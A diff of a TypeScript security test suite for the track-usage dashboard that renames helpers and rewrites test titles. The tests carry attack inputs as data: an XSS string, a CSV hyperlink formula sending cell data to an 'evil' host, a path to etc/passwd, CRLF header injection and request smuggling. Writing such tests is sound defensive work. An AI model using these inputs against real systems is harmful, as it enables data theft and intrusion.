@@ -20,43 +20,43 @@ import { MemoryStorage } from '../../src/storages/memory/index.ts';
 import { type ClientResponse, connect, exchange, parseResponses } from '../support/client.ts';
 import { expectErrors } from '../support/expected-errors.ts';
 import {
-  ALL,
+  ALL_SUMMARIES,
   bearer,
   cookieOf,
-  filled,
+  emptySource,
+  fillStorage,
   form,
   HOST,
   jsonOf,
-  listening,
   NOW,
-  nothingStored,
-  type Served,
   serve,
   sourceOf,
   statusOf,
+  type TestServer,
   TOKEN,
+  whenListening,
 } from './support.ts';
 
-// Kept from clients, and printed for the operator.
+// Not sent to clients, but printed for the operator.
 expectErrors(/^track-usage: (?:authorize|the dashboard) failed: (?:secret|Cannot set headers)/);
 
-const closing: (() => unknown)[] = [];
+const cleanups: (() => unknown)[] = [];
 afterEach(async () => {
   vi.restoreAllMocks();
-  for (const close of closing.splice(0).reverse()) await close();
+  for (const close of cleanups.splice(0).reverse()) await close();
 });
 
-async function start(options?: HandlerOptions, source?: HandlerSource, host?: string): Promise<Served> {
-  const served = await serve(source ?? nothingStored(), options, host);
-  closing.push(() => served.close());
-  return served;
+async function start(options?: HandlerOptions, source?: HandlerSource, host?: string): Promise<TestServer> {
+  const server = await serve(source ?? emptySource(), options, host);
+  cleanups.push(() => server.close());
+  return server;
 }
 
-/** Nothing that goes wrong anywhere ends the process. */
-const loose: unknown[] = [];
-process.on('unhandledRejection', (reason) => loose.push(reason));
-process.on('uncaughtException', (error) => loose.push(error));
-afterEach(() => expect(loose.splice(0)).toEqual([]));
+/** Uncaught exceptions and unhandled rejections. There must be none. */
+const uncaught: unknown[] = [];
+process.on('unhandledRejection', (reason) => uncaught.push(reason));
+process.on('uncaughtException', (error) => uncaught.push(error));
+afterEach(() => expect(uncaught.splice(0)).toEqual([]));
 
 const codeOf = (answer: ClientResponse) => [answer.status, jsonOf(answer).code];
 const SITE = '/usage/api/v1/site';
@@ -67,7 +67,7 @@ const QUERIES = [
 ];
 const LOCAL = { host: 'localhost' };
 
-/** The token of a link. */
+/** Returns the token of a link. */
 const tokenOf = (link: string) => new URL(link).searchParams.get('token')!;
 
 describe('without permission', () => {
@@ -75,99 +75,99 @@ describe('without permission', () => {
     ['a token', { token: TOKEN }, {}],
     ['another token', { token: TOKEN }, bearer('another-token-of-22-ch')],
     ['authorize', { authorize: () => false }, {}],
-    ['nothing but this machine', {}, LOCAL],
+    ['local access without the link', {}, LOCAL],
   ];
-  test.each(guards)('no URL answers: %s', async (_, options, headers) => {
-    const served = await start(options);
+  test.each(guards)('no URL responds: %s', async (_, options, headers) => {
+    const server = await start(options);
     for (const path of QUERIES) {
       for (const method of ['GET', 'HEAD']) {
-        const answer = await served.request(`/usage${path}`, { method, headers });
+        const answer = await server.request(`/usage${path}`, { method, headers });
         expect([path, answer.status]).toEqual([path, expect.toBeOneOf([401, 429])]);
         expect(answer.headers['www-authenticate'] ?? answer.headers['retry-after']).toBeDefined();
       }
     }
   });
 
-  test('spellings of a URL are no way in', async () => {
-    const served = await start({ token: TOKEN });
+  test('other spellings of a URL are rejected', async () => {
+    const server = await start({ token: TOKEN });
     for (const path of [
       ...['/usage//api/v1/site', '/usage/%61pi/v1/site'],
       ...['/usage/API/v1/site', '/usage/api\\v1\\site', '/usage/api/v1/site/', '/usage/api/v1/site%00'],
       ...['/usage/api%2fv1%2fsite', '/usage/metrics/', '/usage/;/api/v1/site', '/usage/?/api/v1/site'],
     ]) {
-      const { status } = await served.request(path);
+      const { status } = await server.request(path);
       expect([path, status]).toEqual([path, expect.toBeOneOf([401, 404])]);
     }
-    // The app may take them for another path, so that they are its own.
+    // The app may normalize them to another path, so they are left to it.
     for (const path of ['/usage/./api/v1/site', '/usage/x/../api/v1/site', '/usage/%2e/api/v1/site']) {
-      expect([path, String((await served.request(path)).body)]).toEqual([path, 'app']);
+      expect([path, String((await server.request(path)).body)]).toEqual([path, 'app']);
     }
   });
 });
 
-describe('this machine alone', () => {
-  test('by a link that works once', async () => {
-    const { handler, request: ask } = await start({});
+describe('local access', () => {
+  test('is granted by a link that works once', async () => {
+    const { handler, request } = await start({});
     const link = handler.link('http://localhost');
-    expect((await ask(SITE, { headers: LOCAL })).status).toBe(401);
+    expect((await request(SITE, { headers: LOCAL })).status).toBe(401);
     const path = link.replace('http://localhost', '');
-    // What only looks where it leads does not use it up.
-    await ask(path, { method: 'HEAD', headers: LOCAL });
-    const first = await ask(`${path}&range=7d`, { headers: LOCAL });
+    // A HEAD request does not use up the link.
+    await request(path, { method: 'HEAD', headers: LOCAL });
+    const first = await request(`${path}&range=7d`, { headers: LOCAL });
     expect([first.status, first.headers.location]).toEqual([303, '/usage/?range=7d']);
     expect(first.headers['referrer-policy']).toBe('no-referrer');
     expect(first.headers['cache-control']).toBe('no-store');
     const cookie = cookieOf(first);
-    expect((await ask(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
-    expect(codeOf(await ask(path, { headers: LOCAL }))).toEqual([401, 'LINK_WRONG']);
-    // Who came in by it may follow it again.
-    expect((await ask(path, { headers: { ...LOCAL, cookie } })).status).toBe(303);
+    expect((await request(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
+    expect(codeOf(await request(path, { headers: LOCAL }))).toEqual([401, 'LINK_WRONG']);
+    // A signed-in client may follow it again.
+    expect((await request(path, { headers: { ...LOCAL, cookie } })).status).toBe(303);
     for (const token of ['', 'x', '__proto__', tokenOf(link)]) {
-      expect((await ask(`/usage/?token=${token}`, { headers: LOCAL })).status).toBe(401);
+      expect((await request(`/usage/?token=${token}`, { headers: LOCAL })).status).toBe(401);
     }
   });
 
-  test('the link is printed once, on stderr alone, and not for other names', async () => {
+  test('prints the link once, only to stderr, and not for other host names', async () => {
     const stdout = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
-    const { handler, request: ask } = await start({});
+    const { handler, request } = await start({});
     handler.link('http://localhost');
-    await ask('/usage/', { headers: LOCAL });
+    await request('/usage/', { headers: LOCAL });
     for (const host of [
       'evil.example/?.localhost',
       'evil.example#.localhost',
       'a b.localhost',
       'evil@localhost',
     ]) {
-      expect([host, (await ask('/usage/', { headers: { host } })).status]).toEqual([host, 421]);
+      expect([host, (await request('/usage/', { headers: { host } })).status]).toEqual([host, 421]);
     }
     expect(stdout).not.toHaveBeenCalled();
   });
 
-  test('not for other machines', async () => {
+  test('is denied to other machines', async () => {
     const other = Object.values(networkInterfaces())
       .flat()
       .find((found) => found?.family === 'IPv4' && !found.internal)?.address;
     expect(other, 'this machine has an address that others can reach').toBeDefined();
-    const served = await start({}, undefined, '0.0.0.0');
-    const far = { host: other!, port: served.port, secure: false };
+    const server = await start({}, undefined, '0.0.0.0');
+    const far = { host: other!, port: server.port, secure: false };
     for (const header of ['', 'X-Forwarded-For: 127.0.0.1\r\n', 'Forwarded: for=127.0.0.1\r\n']) {
       for (const path of ['/usage', '/usage/', SITE, '/usage/api/v1/live']) {
-        const said = await exchange(
+        const received = await exchange(
           far,
           `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${header}Connection: close\r\n\r\n`,
         );
-        expect(said).toMatch(/^HTTP\/1.1 403 /);
-        expect(said).toContain('ACCESS_LOCAL');
+        expect(received).toMatch(/^HTTP\/1.1 403 /);
+        expect(received).toContain('ACCESS_LOCAL');
       }
     }
-    const link = served.handler.link('http://localhost');
-    const said = await exchange(
+    const link = server.handler.link('http://localhost');
+    const received = await exchange(
       far,
       `GET /usage/?token=${tokenOf(link)} HTTP/1.0\r\nHost: localhost\r\n\r\n`,
     );
-    expect(said).toMatch(/^HTTP\/1.1 403 /);
-    // And it did not use up the link.
-    expect((await served.request(link.slice('http://localhost'.length), { headers: LOCAL })).status).toBe(
+    expect(received).toMatch(/^HTTP\/1.1 403 /);
+    // The link is still valid.
+    expect((await server.request(link.slice('http://localhost'.length), { headers: LOCAL })).status).toBe(
       303,
     );
   });
@@ -182,14 +182,14 @@ describe('this machine alone', () => {
       'via',
     ],
     ...['x-real-ip', 'x-client-ip', 'x-cluster-client-ip', 'true-client-ip', 'cf-connecting-ip', 'cf-ray'],
-  ])('not through a proxy: %s', async (name) => {
-    const { request: ask } = await start({});
-    const answer = await ask(SITE, { headers: { ...LOCAL, [name]: '127.0.0.1' } });
+  ])('is denied through a proxy: %s', async (name) => {
+    const { request } = await start({});
+    const answer = await request(SITE, { headers: { ...LOCAL, [name]: '127.0.0.1' } });
     expect(codeOf(answer)).toEqual([403, 'ACCESS_LOCAL']);
   });
 });
 
-test('a name that was made to mean this machine is not answered (DNS rebinding)', async () => {
+test('rejects unknown host names (DNS rebinding)', async () => {
   const hosts = [
     'evil.example',
     'localhost.evil.example',
@@ -199,10 +199,10 @@ test('a name that was made to mean this machine is not answered (DNS rebinding)'
     '10.0.0.1',
   ];
   for (const options of [{}, { public: true }] as HandlerOptions[]) {
-    const { request: ask, handler, port } = await start(options);
+    const { request, handler, port } = await start(options);
     const token = options.public ? '' : `?token=${tokenOf(handler.link('http://localhost'))}`;
     for (const host of hosts) {
-      expect([host, ...codeOf(await ask(`/usage/${token}`, { headers: { host } }))]).toEqual([
+      expect([host, ...codeOf(await request(`/usage/${token}`, { headers: { host } }))]).toEqual([
         host,
         421,
         'ACCESS_HOST',
@@ -221,7 +221,7 @@ test('a name that was made to mean this machine is not answered (DNS rebinding)'
       '[::1]:3000',
       'LOCALHOST',
     ]) {
-      expect((await ask(SITE, { headers: { host } })).status).toBe(options.public ? 200 : 401);
+      expect((await request(SITE, { headers: { host } })).status).toBe(options.public ? 200 : 401);
     }
   }
   const named = await start({ token: TOKEN, hosts: ['Stats.example.com'] });
@@ -232,29 +232,32 @@ test('a name that was made to mean this machine is not answered (DNS rebinding)'
 });
 
 describe('the token', () => {
-  test('cannot be guessed for long, and nobody else pays for who tries', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    const cookie = cookieOf(await ask('/usage/login', form(TOKEN)));
+  test('is protected by a rate limit that affects no other client', async () => {
+    const { request } = await start({ token: TOKEN });
+    const cookie = cookieOf(await request('/usage/login', form(TOKEN)));
     for (let i = 0; i < 5; i++) {
-      expect((await ask(SITE, { headers: bearer(`guess-${i}`) })).status).toBe(401);
-      // The form counts by itself: programs that guess keep nobody from signing in.
-      expect((await ask('/usage/login', form(`guess-${i}`))).status).toBe(401);
+      expect((await request(SITE, { headers: bearer(`guess-${i}`) })).status).toBe(401);
+      // The form has a separate counter, so that guessing programs do not prevent signing in.
+      expect((await request('/usage/login', form(`guess-${i}`))).status).toBe(401);
     }
-    for (const answer of [await ask(SITE, { headers: bearer() }), await ask('/usage/login', form(TOKEN))]) {
+    for (const answer of [
+      await request(SITE, { headers: bearer() }),
+      await request('/usage/login', form(TOKEN)),
+    ]) {
       expect(codeOf(answer)).toEqual([429, 'ACCESS_SLOWED']);
       expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
       expect(Number(answer.headers['retry-after'])).toBeLessThanOrEqual(60);
     }
-    // Who is signed in, and other addresses, are not affected.
-    expect((await ask(SITE, { headers: { cookie } })).status).toBe(200);
+    // Signed-in clients and other addresses are not affected.
+    expect((await request(SITE, { headers: { cookie } })).status).toBe(200);
   });
 
-  test('is tried per address, of IPv6 per network, in bounded memory', async () => {
+  test('is rate-limited per IPv4 address and IPv6 network, in limited memory', async () => {
     const access = new Access(readHandlerOptions({ token: TOKEN }));
     const from = (remoteAddress: string, given: string) =>
       access.allows({ headers: bearer(given), socket: { remoteAddress } } as unknown as http.IncomingMessage);
     for (let i = 0; i < 5; i++) await from('2001:db8::1', `guess-${i}`);
-    // However it is written, the same network.
+    // Other spellings and addresses of the same network.
     for (const same of ['2001:db8::2', '2001:db8::1:1', '2001:db8:0:0:ffff:1:1:1', '2001:0db8::9%eth0']) {
       expect(await from(same, TOKEN)).toMatchObject({ status: 429 });
     }
@@ -268,14 +271,14 @@ describe('the token', () => {
     expect(await from('2001:db8::1', TOKEN)).toBe(true);
   });
 
-  test('is compared in constant time, whatever its length', async () => {
+  test('is compared in constant time, regardless of its length', async () => {
     const access = new Access(readHandlerOptions({ token: TOKEN }));
     const guess = (given: string, address: string) =>
       access.allows({
         headers: bearer(given),
         socket: { remoteAddress: address },
       } as unknown as http.IncomingMessage);
-    // What is compared are hashes: prefixes of the token, and lengths, make no difference that could be measured.
+    // Hashes are compared, so that prefixes and lengths make no measurable difference.
     let address = 0;
     for (const given of ['a', TOKEN.slice(0, -1), `${TOKEN}x`, TOKEN.toUpperCase(), 'a'.repeat(10_000)]) {
       expect(await guess(given, `10.0.0.${address++}`)).toBe(false);
@@ -285,19 +288,19 @@ describe('the token', () => {
     expect(source).not.toMatch(/(?:given|bearer|signature) ?===? ?(?:token|this)/);
   });
 
-  test('is not taken from a URL', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    expect((await ask(`/usage/?token=${TOKEN}`)).status).toBe(401);
-    expect((await ask(`${SITE}?token=${TOKEN}`)).status).toBe(401);
+  test('is not accepted in a URL', async () => {
+    const { request } = await start({ token: TOKEN });
+    expect((await request(`/usage/?token=${TOKEN}`)).status).toBe(401);
+    expect((await request(`${SITE}?token=${TOKEN}`)).status).toBe(401);
   });
 
-  test('an image on another site’s page locks nobody out', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    for (let i = 0; i < 20; i++) await ask('/usage/?token=wrong');
-    expect((await ask('/usage/login', form(TOKEN))).status).toBe(303);
+  test('is not locked by images on pages of other sites', async () => {
+    const { request } = await start({ token: TOKEN });
+    for (let i = 0; i < 20; i++) await request('/usage/?token=wrong');
+    expect((await request('/usage/login', form(TOKEN))).status).toBe(303);
   });
 
-  test('is long, and not in the message where it is not', () => {
+  test('must be long, and is never in an error message', () => {
     for (const token of ['secret', 'with blanks in the middle', 'a-line-that-ends-here\n', 'ä'.repeat(20)]) {
       const read = () => readHandlerOptions({ token });
       expect(read).toThrow(expect.objectContaining({ code: 'OPTION_INVALID' }));
@@ -307,14 +310,14 @@ describe('the token', () => {
 });
 
 describe('the session', () => {
-  test('its cookie', async () => {
-    const { request: ask } = await start({ token: TOKEN, path: '/stats' });
-    const plain = String((await ask('/stats/login', form(TOKEN))).headers['set-cookie']);
+  test('has a cookie with secure attributes', async () => {
+    const { request } = await start({ token: TOKEN, path: '/stats' });
+    const plain = String((await request('/stats/login', form(TOKEN))).headers['set-cookie']);
     expect(plain).toMatch(
       /^track-usage-session=\d{10}\.[\w-]{43}; Max-Age=604800; Path=\/stats; HttpOnly; SameSite=Strict$/,
     );
     const given = form(TOKEN);
-    const behind = await ask('/stats/login', {
+    const behind = await request('/stats/login', {
       ...given,
       headers: { ...given.headers, 'x-forwarded-proto': 'https' },
     });
@@ -322,9 +325,9 @@ describe('the session', () => {
     expect(plain).not.toContain(TOKEN);
   });
 
-  test('cannot be made up', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    const right = cookieOf(await ask('/usage/login', form(TOKEN))).split('=')[1]!;
+  test('cannot be forged', async () => {
+    const { request } = await start({ token: TOKEN });
+    const right = cookieOf(await request('/usage/login', form(TOKEN))).split('=')[1]!;
     const [expires = '', signature = ''] = right.split('.');
     const later = String(Number(expires) + 1);
     const sign = (key: string, text: string) => createHmac('sha256', key).update(text).digest('base64url');
@@ -342,20 +345,20 @@ describe('the session', () => {
       ...[`9999999999.${sign('', '/usage 9999999999')}`, `9999999999.${sign(TOKEN, '/usage 9999999999')}`],
       ...['__proto__', '%00', '%', `${expires}e9.${signature}`],
     ]) {
-      const { status } = await ask(SITE, { headers: { cookie: `track-usage-session=${value}` } });
+      const { status } = await request(SITE, { headers: { cookie: `track-usage-session=${value}` } });
       expect([value, status]).toEqual([value, 401]);
     }
-    expect((await ask(SITE, { headers: { cookie: `a=b; track-usage-session=${right}; c=d` } })).status).toBe(
-      200,
-    );
+    expect(
+      (await request(SITE, { headers: { cookie: `a=b; track-usage-session=${right}; c=d` } })).status,
+    ).toBe(200);
   });
 
-  test('ends, and is for its path and token alone', async () => {
+  test('expires, and is valid only for its path and token', async () => {
     const one = await start({ token: TOKEN });
     const cookie = cookieOf(await one.request('/usage/login', form(TOKEN)));
     for (const options of [{ token: TOKEN, path: '/other' }, { token: `${TOKEN}2` }] as HandlerOptions[]) {
-      const { request: ask, handler } = await start(options);
-      expect((await ask(`${handler.path}/api/v1/site`, { headers: { cookie } })).status).toBe(401);
+      const { request, handler } = await start(options);
+      expect((await request(`${handler.path}/api/v1/site`, { headers: { cookie } })).status).toBe(401);
     }
     const same = await start({ token: TOKEN });
     expect((await same.request(SITE, { headers: { cookie } })).status).toBe(200);
@@ -363,7 +366,7 @@ describe('the session', () => {
     expect((await one.request(SITE, { headers: { cookie } })).status).toBe(401);
   });
 
-  test('of one process without a token is not one of another', async () => {
+  test('without a token is not valid in another process', async () => {
     const one = await start({});
     const cookie = cookieOf(
       await one.request(one.handler.link('http://localhost').slice('http://localhost'.length), {
@@ -388,10 +391,10 @@ describe('pages of other sites', () => {
     [{ origin: 'http://localhost:1', host: 'localhost:1' }, 303],
     [{ 'sec-fetch-site': 'same-origin', origin: 'https://behind.proxy' }, 303],
     [{}, 303],
-  ])('sign nobody in: %j', async (headers, status) => {
-    const { request: ask } = await start({ token: TOKEN });
+  ])('cannot sign in: %j', async (headers, status) => {
+    const { request } = await start({ token: TOKEN });
     const given = form(TOKEN);
-    const answer = await ask('/usage/login', {
+    const answer = await request('/usage/login', {
       ...given,
       headers: { ...given.headers, ...(headers as object) },
     });
@@ -399,33 +402,33 @@ describe('pages of other sites', () => {
     expect(answer.headers['set-cookie'] === undefined).toBe(status === 403);
   });
 
-  test('a GET changes nothing, and no method is taken from elsewhere', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    expect((await ask(`/usage/login?token=${TOKEN}`)).status).toBe(405);
+  test('cannot cause changes with GET or a method override', async () => {
+    const { request } = await start({ token: TOKEN });
+    expect((await request(`/usage/login?token=${TOKEN}`)).status).toBe(405);
     for (const override of ['x-http-method-override', 'x-method-override', 'x-http-method']) {
       const headers = { ...bearer(), [override]: 'POST' };
-      expect((await ask(`/usage/login?token=${TOKEN}&_method=POST`, { headers })).status).toBe(405);
-      expect((await ask(SITE, { method: 'POST', headers: { ...bearer(), [override]: 'GET' } })).status).toBe(
-        405,
-      );
+      expect((await request(`/usage/login?token=${TOKEN}&_method=POST`, { headers })).status).toBe(405);
+      expect(
+        (await request(SITE, { method: 'POST', headers: { ...bearer(), [override]: 'GET' } })).status,
+      ).toBe(405);
     }
     for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
-      const { status, body } = await ask(SITE, { method, headers: bearer() });
+      const { status, body } = await request(SITE, { method, headers: bearer() });
       expect([method, status]).toEqual([method, 405]);
       expect(body.toString()).not.toContain(TOKEN);
     }
   });
 });
 
-test('every answer has the headers that keep it harmless', async () => {
-  const source = nothingStored();
+test('sends security headers with every response', async () => {
+  const source = emptySource();
   const broken = {
     ...source,
     query: { ...source.query, site: () => Promise.reject(new Error('x')) } as Queries,
   };
   const guarded = await start({ token: TOKEN }, broken);
   const local = await start({});
-  const answers = [
+  const responses = [
     ...(await Promise.all(
       [
         '',
@@ -445,7 +448,7 @@ test('every answer has the headers that keep it harmless', async () => {
     await local.request('/usage/', { headers: { host: 'evil.example' } }),
     await local.request('/usage/', { headers: { ...LOCAL, via: 'x' } }),
   ];
-  for (const { headers } of answers) {
+  for (const { headers } of responses) {
     expect(headers['content-security-policy']).toMatch(
       /^default-src 'none'; script-src 'self'; .*frame-ancestors 'none'$/,
     );
@@ -461,10 +464,10 @@ test('every answer has the headers that keep it harmless', async () => {
   }
 });
 
-describe('what others wrote into a request', () => {
+describe('untrusted text in records', () => {
   const XSS = '<script>alert(1)</script>"\'><img src=x onerror=alert(1)>\u2028</title>';
   const FORMULA = '=HYPERLINK("http://evil/?"&A1)';
-  async function attacked(text: string) {
+  async function startWithRecord(text: string) {
     const extra = { vars: { [text]: text }, routeParams: { a: text }, geo: { city: text } };
     const fields = [
       'url',
@@ -488,21 +491,21 @@ describe('what others wrote into a request', () => {
       'serverName',
     ] as const;
     const record = Object.fromEntries([...fields, ...more].map((name) => [name, text]));
-    const storage = await filled(new MemoryStorage({ hooks: ALL }), [
+    const storage = await fillStorage(new MemoryStorage({ hooks: ALL_SUMMARIES }), [
       { date: NOW - 1_000, ...record, extra },
     ]);
     return start({ token: TOKEN }, sourceOf(storage));
   }
 
-  test('comes as JSON, CSV and NDJSON alone, named as such', async () => {
-    const { request: ask } = await attacked(XSS);
-    for (const summary of ['/records', ...ALL.map((name) => `/summaries/${name}`)]) {
+  test('is sent only as JSON, CSV and NDJSON, with that content type', async () => {
+    const { request } = await startWithRecord(XSS);
+    for (const summary of ['/records', ...ALL_SUMMARIES.map((name) => `/summaries/${name}`)]) {
       for (const [format, type] of [
         ['json', 'application/json; charset=utf-8'],
         ['csv', 'text/csv; charset=utf-8; header=present'],
         ['ndjson', 'application/x-ndjson; charset=utf-8'],
       ]) {
-        const answer = await ask(`/usage/api/v1${summary}?format=${format}`, { headers: bearer() });
+        const answer = await request(`/usage/api/v1${summary}?format=${format}`, { headers: bearer() });
         expect([answer.status, answer.headers['content-type']]).toEqual([200, type]);
         expect(answer.headers['x-content-type-options']).toBe('nosniff');
         if (format !== 'json')
@@ -511,14 +514,14 @@ describe('what others wrote into a request', () => {
     }
   });
 
-  test('comes back in no problem as anything but JSON', async () => {
-    const { request: ask } = await attacked('x');
+  test('is sent only as JSON in problems', async () => {
+    const { request } = await startWithRecord('x');
     for (const path of [
       `/api/v1/totals?from=${encodeURIComponent(XSS)}`,
       `/api/v1/${encodeURIComponent(XSS)}`,
       `/${encodeURIComponent(XSS)}`,
     ]) {
-      const { headers, status } = await ask(`/usage${path}`, { headers: bearer() });
+      const { headers, status } = await request(`/usage${path}`, { headers: bearer() });
       expect([headers['content-type'], status]).toEqual([
         'application/problem+json; charset=utf-8',
         path.includes('from') ? 400 : 404,
@@ -526,10 +529,10 @@ describe('what others wrote into a request', () => {
     }
   });
 
-  test('is no formula in a CSV', async () => {
-    const { request: ask } = await attacked(FORMULA);
+  test('is escaped if it is a formula in CSV', async () => {
+    const { request } = await startWithRecord(FORMULA);
     for (const path of ['/records', '/summaries/urls', '/summaries/user-agents', '/summaries/remotes']) {
-      const text = (await ask(`/usage/api/v1${path}?format=csv`, { headers: bearer() })).body.toString();
+      const text = (await request(`/usage/api/v1${path}?format=csv`, { headers: bearer() })).body.toString();
       expect(text).toContain("'=HYPERLINK");
       expect(text).not.toMatch(/(?:^|,)"?=HYPERLINK/m);
     }
@@ -537,9 +540,9 @@ describe('what others wrote into a request', () => {
 });
 
 describe('the request line', () => {
-  test('leads to no file outside the dashboard', async () => {
+  test('cannot access files outside the dashboard', async () => {
     const directory = mkdtempSync(join(tmpdir(), 'track-usage-files-'));
-    closing.push(() => rmSync(directory, { recursive: true }));
+    cleanups.push(() => rmSync(directory, { recursive: true }));
     writeFileSync(join(directory, 'index.html'), '<p>dashboard');
     writeFileSync(join(directory, 'app-abcdefgh.js'), 'x'.repeat(300_000));
     writeFileSync(join(directory, 'app-abcdefgh.js.gz'), 'zipped');
@@ -548,8 +551,8 @@ describe('the request line', () => {
     const server = http.createServer((request, response) => {
       if (!sendFile(request, response, files, request.url!)) response.writeHead(404).end();
     });
-    await listening(server.listen(0, HOST));
-    closing.push(() => server.close());
+    await whenListening(server.listen(0, HOST));
+    cleanups.push(() => server.close());
     const address = { host: HOST, port: (server.address() as AddressInfo).port, secure: false };
     const get = async (path: string, headers = '') =>
       parseResponses(
@@ -583,15 +586,15 @@ describe('the request line', () => {
     ]) {
       expect([path, (await get(path)).status]).toEqual([path, 404]);
     }
-    // A package that is replaced on the disk under a running app does not end it.
+    // Replacing the package on disk does not affect a running app.
     rmSync(directory, { recursive: true });
     expect((await get('/')).status).toBe(200);
-    closing.pop();
-    closing.pop();
+    cleanups.pop();
+    cleanups.pop();
     server.close();
   });
 
-  test('in its odd forms', async () => {
+  test('is handled safely in unusual forms', async () => {
     const { port } = await start({ token: TOKEN });
     const address = { host: HOST, port, secure: false };
     const raw = (target: string) =>
@@ -609,9 +612,9 @@ describe('the request line', () => {
       expect([target, (await raw(target)).endsWith('app')]).toEqual([target, true]);
     }
     for (const target of ['/usage/..%2f..%2fetc/passwd', '/usage/%00']) {
-      const said = await raw(target);
-      expect([target, said.slice(0, 13)]).toEqual([target, 'HTTP/1.1 404 ']);
-      expect(said).toContain('PATH_UNKNOWN');
+      const received = await raw(target);
+      expect([target, received.slice(0, 13)]).toEqual([target, 'HTTP/1.1 404 ']);
+      expect(received).toContain('PATH_UNKNOWN');
     }
     const [moved] = parseResponses(await raw('/usage?a=%0d%0aX-Evil:1&b=%0aSet-Cookie:x'));
     expect(moved!.status).toBe(303);
@@ -620,7 +623,7 @@ describe('the request line', () => {
     expect(entered!.head).not.toMatch(/^X-Evil/im);
   });
 
-  test('what is left of a request is not the next one', async () => {
+  test('does not let an unread body become the next request', async () => {
     const { port } = await start({ token: TOKEN });
     const smuggled = 'GET /usage/api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n';
     for (const line of [
@@ -629,46 +632,46 @@ describe('the request line', () => {
       'POST /usage/login',
       'DELETE /usage/',
     ]) {
-      const said = await exchange(
+      const received = await exchange(
         { host: HOST, port, secure: false },
         `${line} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}` +
           'GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n',
       );
-      expect(parseResponses(said)).toHaveLength(2);
-      expect(said.endsWith('app')).toBe(true);
+      expect(parseResponses(received)).toHaveLength(2);
+      expect(received.endsWith('app')).toBe(true);
     }
   });
 });
 
-describe('the form', () => {
-  test('that is too long is refused, and not read', async () => {
-    const { request: ask, port } = await start({ token: TOKEN });
+describe('the login form', () => {
+  test('is rejected without being read if it is too long', async () => {
+    const { request, port } = await start({ token: TOKEN });
     const long = { ...form(TOKEN), body: `token=${'x'.repeat(100_000)}` };
-    expect(codeOf(await ask('/usage/login', long))).toEqual([413, 'FORM_LONG']);
+    expect(codeOf(await request('/usage/login', long))).toEqual([413, 'FORM_LONG']);
     const socket = await connect({ host: HOST, port, secure: false });
     socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n');
     socket.write('x'.repeat(20_000));
-    const [said] = await once(socket, 'data');
-    expect(String(said)).toMatch(/^HTTP\/1.1 413 [\s\S]*connection: close/i);
+    const [received] = await once(socket, 'data');
+    expect(String(received)).toMatch(/^HTTP\/1.1 413 [\s\S]*connection: close/i);
     socket.destroy();
-    // It was no guess.
-    for (let i = 0; i < 6; i++) await ask('/usage/login', long);
-    expect((await ask('/usage/login', form(TOKEN))).status).toBe(303);
+    // It does not count as a wrong token.
+    for (let i = 0; i < 6; i++) await request('/usage/login', long);
+    expect((await request('/usage/login', form(TOKEN))).status).toBe(303);
   });
 
-  test('that does not come ends', async () => {
+  test('times out', async () => {
     const { port } = await start({ token: TOKEN, timeout: 200 });
-    const begun = performance.now();
-    const said = await exchange(
+    const began = performance.now();
+    const received = await exchange(
       { host: HOST, port, secure: false },
       'POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok',
     );
-    expect(said).toMatch(/^HTTP\/1.1 408 [\s\S]*FORM_SLOW/);
-    expect(performance.now() - begun).toBeLessThan(5_000);
+    expect(received).toMatch(/^HTTP\/1.1 408 [\s\S]*FORM_SLOW/);
+    expect(performance.now() - began).toBeLessThan(5_000);
   });
 
-  test('whose sender leaves harms nobody', async () => {
-    const { port, request: ask } = await start({ token: TOKEN });
+  test('may be aborted by the client', async () => {
+    const { port, request } = await start({ token: TOKEN });
     for (let i = 0; i < 20; i++) {
       const socket = await connect({ host: HOST, port, secure: false });
       socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok');
@@ -676,7 +679,7 @@ describe('the form', () => {
       socket.resetAndDestroy();
     }
     await pause(50);
-    expect((await ask('/')).body.toString()).toBe('app');
+    expect((await request('/')).body.toString()).toBe('app');
   });
 });
 
@@ -694,11 +697,11 @@ describe('authorize', () => {
         throw new Error('secret');
       },
     ],
-    ['answers a truthy value', () => 'yes'],
-    ['answers 1', async () => 1],
-    ['answers an object', () => ({ ok: true })],
-    ['answers nothing', () => undefined],
-    ['never answers', () => new Promise(() => {})],
+    ['returns a truthy value', () => 'yes'],
+    ['resolves to 1', async () => 1],
+    ['returns an object', () => ({ ok: true })],
+    ['returns undefined', () => undefined],
+    ['never settles', () => new Promise(() => {})],
     [
       'rejects later',
       async () => {
@@ -706,42 +709,42 @@ describe('authorize', () => {
         throw new Error('late');
       },
     ],
-  ] as [string, () => never][])('that %s keeps people out', async (_, authorize) => {
-    const { request: ask } = await start({ authorize, timeout: 150 });
-    const answer = await ask(SITE);
+  ] as [string, () => never][])('that %s denies access', async (_, authorize) => {
+    const { request } = await start({ authorize, timeout: 150 });
+    const answer = await request(SITE);
     expect(codeOf(answer)).toEqual([401, 'AUTH_REFUSED']);
     expect(answer.body.toString()).not.toContain('secret');
     await pause(200);
   });
 
-  test('that says true lets them in', async () => {
-    const { request: ask } = await start({ authorize: async ({ headers }) => headers['x-user'] === 'jane' });
-    expect((await ask(SITE, { headers: { 'x-user': 'jane' } })).status).toBe(200);
-    expect((await ask(SITE)).status).toBe(401);
+  test('that returns true grants access', async () => {
+    const { request } = await start({ authorize: async ({ headers }) => headers['x-user'] === 'jane' });
+    expect((await request(SITE, { headers: { 'x-user': 'jane' } })).status).toBe(200);
+    expect((await request(SITE)).status).toBe(401);
   });
 });
 
 describe('event streams', () => {
-  const MANY = 10_000;
